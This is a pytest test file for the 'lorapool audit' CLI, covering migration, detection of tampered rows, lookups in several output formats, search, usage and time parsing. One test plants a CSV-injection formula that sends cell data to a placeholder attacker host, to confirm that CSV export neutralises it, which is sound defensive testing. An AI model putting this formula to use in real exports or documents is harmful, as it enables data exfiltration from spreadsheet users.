"""The ``lorapool audit`` commands on an SQLite file (no server)."""

import csv
import io
import statistics
import time

import orjson
import pytest
from click.testing import CliRunner
from sqlalchemy import text

from lorapool import signing
from lorapool.audit_db import DatabaseConfig, append_records, create_audit_engine, head_revision
from lorapool.audit_db.queries import percentile
from lorapool.cli.audit import audit, parse_time
from lorapool.records.audit import record_from_dict

pytest_plugins = ["audit_fixtures"]


@pytest.fixture
def db_url(tmp_path):
    return f"sqlite:///{tmp_path / 'sub' / 'audit.sqlite'}"


def _invoke(db_url, *args):
    result = CliRunner().invoke(audit, ["--db-url", db_url, *args], catch_exceptions=False)
    return result


@pytest.fixture
def seeded(db_url):
    from audit_fixtures import make_adapter, make_record

    assert _invoke(db_url, "migrate").exit_code == 0
    engine = create_audit_engine(DatabaseConfig(url=db_url))
    records = [
        make_record(i, adapter=make_adapter() if i % 2 else None, n=1 + i % 2) for i in range(6)
    ]
    append_records(engine, [record_from_dict(r) for r in records], key=signing.key_from_env())
    yield engine
    engine.dispose()


def test_migrate_creates_the_file_and_is_repeatable(db_url, tmp_path):
    assert f"at revision {head_revision()}" in _invoke(db_url, "migrate").output
    assert (tmp_path / "sub" / "audit.sqlite").exists()
    assert _invoke(db_url, "migrate").exit_code == 0


def test_verify_ok_then_names_a_tampered_row(db_url, seeded):
    result = _invoke(db_url, "verify")
    assert result.exit_code == 0 and result.output.startswith("OK: 9 rows, 1 adapters")
    with seeded.begin() as conn:
        conn.execute(text("DROP TRIGGER completions_no_update"))
        conn.execute(
            text(
                "UPDATE completions SET text = 'forged' "
                "WHERE request_id = 'req-3' AND completion_index = 1"
            )
        )
    result = _invoke(db_url, "verify")
    assert result.exit_code == 1
    assert "seq=6 (request 'req-3', completion 1)" in result.output


def test_request_in_every_format(db_url, seeded):
    rows = orjson.loads(_invoke(db_url, "request", "req-3", "--format", "json").output)
    assert [r["completion_index"] for r in rows] == [0, 1]
    assert rows[0]["adapter_name"] == "sql-lora" and rows[0]["adapter_sha256"]
    table = _invoke(db_url, "request", "req-3").output
    assert "adapter_path" in table and "/adapters/sql-lora/v1" in table
    parsed = list(
        csv.DictReader(io.StringIO(_invoke(db_url, "request", "req-3", "--format", "csv").output))
    )
    assert parsed[1]["text"] == "completion 1 of request 3"
    assert _invoke(db_url, "request", "nope").exit_code == 1


def test_search_and_usage(db_url, seeded):
    rows = orjson.loads(
        _invoke(
            db_url, "search", "--adapter", "sql-lora", "--text", "request 5", "--format", "json"
        ).output
    )
    assert [(r["request_id"], r["completion_index"]) for r in rows] == [("req-5", 0), ("req-5", 1)]
    base = orjson.loads(_invoke(db_url, "search", "--base-model-only", "--format", "json").output)
    assert {r["request_id"] for r in base} == {"req-0", "req-2", "req-4"}
    usage = orjson.loads(_invoke(db_url, "usage", "--format", "json").output)
    assert [(u["key"], u["requests"], u["completion_tokens"]) for u in usage] == [
        ("(base model)", 3, 9),
        ("sql-lora", 3, 18),
    ]
    assert "acme" in _invoke(db_url, "usage", "--by", "tenant").output


def test_parse_time():
    assert parse_time("1700000000.5") == 1700000000.5
    assert parse_time("2023-11-14T22:13:20") == 1700000000.0
    assert parse_time("2023-11-14T23:13:20+01:00") == 1700000000.0
    assert abs(parse_time("2h") - (time.time() - 7200)) < 5
    assert parse_time(None) is None


@pytest.mark.parametrize(
    "values", [[3.0], [1.0, 2.0], [5.0, 1.0, 4.0, 2.0, 3.0], [float(v * v % 17) for v in range(40)]]
)
def test_percentile_matches_linear_interpolation(values):
    if len(values) > 1:
        cuts = statistics.quantiles(values, n=100, method="inclusive")
        assert percentile(values, 50) == pytest.approx(cuts[49])
        assert percentile(values, 95) == pytest.approx(cuts[94])
    assert percentile(values, 0) == min(values) and percentile(values, 100) == max(values)
    assert percentile([], 50) is None


def test_the_gateway_reads_times_as_the_cli_does():
    from lorapool.gateway.audit_store import parse_time as gateway_time
    from lorapool.openai.errors import APIError

    for value in ("1700000000.5", "2023-11-14T22:13:20", "2023-11-14T23:13:20+01:00"):
        assert gateway_time(value, "since") == parse_time(value)
    with pytest.raises(APIError):
        gateway_time("2h", "since")  # ages are the CLI's own


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(db_url, seeded):
    from audit_fixtures import make_record

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    record = make_record(40, text_for=lambda i, k: "-2+3")
    record["prompt"] = hostile
    append_records(seeded, [record_from_dict(record)], key=signing.key_from_env())
    for command in (["request", "req-40"], ["search", "--text", "-2+3"]):
        result = _invoke(db_url, *command, "--format", "csv")
        [row] = list(csv.DictReader(io.StringIO(result.output, newline="")))
        assert (row["prompt"], row["text"]) == ("'" + hostile, "'-2+3")
        assert row["cumulative_logprob"] == "-1.5"  # a number stays a number
    [row] = orjson.loads(_invoke(db_url, "request", "req-40", "--format", "json").output)
    assert row["prompt"] == hostile  # JSON is exact


def test_a_text_search_no_index_can_serve_needs_a_window(db_url, seeded):
    refused = _invoke(db_url, "search", "--text", "re")  # two characters: no trigram
    assert refused.exit_code == 2 and "time window" in refused.output
    window = ["--since", "1699999999", "--until", "1700000100"]
    found = orjson.loads(
        _invoke(db_url, "search", "--text", "re", *window, "--format", "json").output
    )
    assert len(found) == 9  # every completion says "... of request ..."
